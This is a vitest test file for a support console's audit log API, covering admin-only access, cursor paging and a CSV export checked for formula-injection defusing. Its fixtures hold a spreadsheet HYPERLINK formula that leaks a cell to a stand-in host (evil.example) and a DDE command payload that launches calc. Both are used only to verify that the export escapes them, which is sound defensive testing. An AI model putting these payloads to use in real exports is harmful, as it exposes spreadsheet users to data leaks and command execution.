// The audit log in the console API: admins only (agents and supervisors get 403), filters and
// cursor paging newest first, and the CSV export, where a staff member's name written as a
// spreadsheet formula must come out as text (formula injection), not as a formula.

import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StaffClient } from '../support/staff-client.ts';
import { startTestApp, type StoreKind, type TestApp } from '../support/test-app.ts';
import { WebchatCustomer } from '../support/webchat-client.ts';

const ADMIN = { email: 'audit-admin@care.test', password: 'umbrella lantern quietly 47 orbits' };
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';

interface Entry {
  id: string;
  createdAt: string;
  action: string;
  entity: string;
  entityId: string;
  actorId: string | null;
  actorName: string | null;
  details: unknown;
}

/** RFC 4180 rows: quoted cells, doubled quotes, CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted || (c !== '"' && c !== ',' && !(c === '\r' && text[i + 1] === '\n'))) {
      cell += c;
    } else if (c === '"') {
      quoted = true;
    } else {
      row.push(cell);
      cell = '';
      if (c === '\r') {
        rows.push(row);
        row = [];
        i += 1;
      }
    }
  }
  return rows;
}

describe.each<StoreKind>(['sqlite', 'postgres'])('the audit log on %s', (store) => {
  let t: TestApp;
  let admin: StaffClient;

  beforeAll(async () => {
    t = await startTestApp({ store, env: { ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password } });
    admin = await new StaffClient(t.baseUrl).signIn(ADMIN.email, ADMIN.password);
  });
  afterAll(async () => t?.close());

  it('is for admins only', async () => {
    const supervisor = await admin.createStaff('supervisor', 'Sun');
    const agent = await admin.createStaff('agent', 'Ada');
    const statusFor = async (client: StaffClient, path: string) => (await fetch(`${t.baseUrl}${path}`, { headers: client.cookie ? { cookie: client.cookie } : {} })).status;
    for (const path of ['/api/staff/audit', '/api/staff/audit.csv', '/api/staff/audit/actions']) {
      expect(await statusFor(new StaffClient(t.baseUrl), path)).toBe(401);
      expect(await statusFor(agent, path)).toBe(403);
      expect(await statusFor(supervisor, path)).toBe(403);
      expect(await statusFor(admin, path)).toBe(200);
    }
  });

  it('filters and pages newest first without gaps or repeats, even among entries of the same instant', async () => {
    const { db } = t.app.database;
    const tag = randomUUID();
    const base = Date.parse('2031-01-01T00:00:00Z');
    const times = [0, 1000, 1000, 1000, 2000, 3000, 3000];
    for (const [i, offset] of times.entries()) {
      await db.auditLog.create({
        data: {
          id: randomUUID(),
          actorType: 'staff',
          actorId: i % 2 ? 'staff-odd' : 'staff-even',
          action: 'test.paged',
          entity: 'Test',
          entityId: tag,
          details: `{"i":${i}}`,
          createdAt: new Date(base + offset),
        },
      });
    }
    const seen: Entry[] = [];
    let cursor: string | null = null;
    do {
      const page: { status: number; body: { entries: Entry[]; nextCursor: string | null } } = await admin.get(`/api/staff/audit?entityId=${tag}&limit=3${cursor ? `&cursor=${cursor}` : ''}`);
      expect(page.status).toBe(200);
      seen.push(...page.body.entries);
      cursor = page.body.nextCursor;
    } while (cursor);
    expect(seen).toHaveLength(times.length);
    expect(new Set(seen.map((e) => e.id)).size).toBe(times.length);
    const stamps = seen.map((e) => Date.parse(e.createdAt));
    expect(stamps).toEqual([...stamps].sort((a, b) => b - a));

    const odd = await admin.get<{ entries: Entry[] }>(`/api/staff/audit?entityId=${tag}&actorId=staff-odd`);
    expect(odd.body.entries.map((e) => (e.details as { i: number }).i).sort()).toEqual([1, 3, 5]);
    const window = await admin.get<{ entries: Entry[] }>(
      `/api/staff/audit?action=test.paged&entity=Test&entityId=${tag}&from=${new Date(base + 1000).toISOString()}&to=${new Date(base + 3000).toISOString()}`,
    );
    expect(window.body.entries).toHaveLength(4);
    expect((await admin.get<{ actions: string[] }>('/api/staff/audit/actions')).body.actions).toContain('test.paged');

    const badCursor = await admin.get<{ error: { code: string; message: string } }>('/api/staff/audit?cursor=not-a-cursor');
    expect(badCursor.status).toBe(400);
    expect(badCursor.body.error.message).toMatch(/cursor/);
    const backwards = await admin.get(`/api/staff/audit?from=${new Date(base + 5000).toISOString()}&to=${new Date(base).toISOString()}`);
    expect(backwards.status).toBe(400);
  });

  it('exports the filtered log as CSV with formulas defused, and audits the export', async () => {
    const password = 'a perfectly ordinary 31 passphrase';
    const email = `formula-${randomUUID().slice(0, 8)}@staff.test`;
    expect((await admin.post('/api/staff/users', { email, name: FORMULA_NAME, password, role: 'agent' })).status).toBe(201);
    const attacker = await new StaffClient(t.baseUrl).signIn(email, password);
    const customer = await new WebchatCustomer(t.baseUrl).start({ locale: 'en' });
    expect((await attacker.patch(`/api/staff/customers/${customer.customerId}`, { name: '@SUM(1+1)*cmd|"/C calc"!A0' })).status).toBe(200);

    const response = await fetch(`${t.baseUrl}/api/staff/audit.csv?entityId=${customer.customerId}`, { headers: { cookie: admin.cookie } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-\d{8}-\d{4}\.csv"$/);
    const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(['createdAt', 'actorType', 'actorId', 'actorName', 'action', 'entity', 'entityId', 'details']);
    expect(rows).toHaveLength(2);
    const [, row] = rows;
    expect(row![3]).toBe(`'${FORMULA_NAME}`);
    expect(row![4]).toBe('customer.updated');
    expect(JSON.parse(row![7]!)).toMatchObject({ name: { to: '@SUM(1+1)*cmd|"/C calc"!A0' } });
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@]/);

    const exported = await t.app.database.db.auditLog.findFirstOrThrow({ where: { action: 'audit.exported' }, orderBy: { createdAt: 'desc' } });
    expect(exported.actorId).toBe(admin.staff!.id);
  });

  it('serves the audit page and links it from the console', async () => {
    const page = await fetch(`${t.baseUrl}/console/audit`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('<script type="module" src="/console/audit.js"></script>');
    // The console's top bar (drawn in the browser) links it for admins; Chromium checks the link in the e2e tests.
    const topBar = await fetch(`${t.baseUrl}/console/components/top-bar.js`);
    expect(topBar.status).toBe(200);
    expect(await topBar.text()).toContain('href="/console/audit"');
  });
});
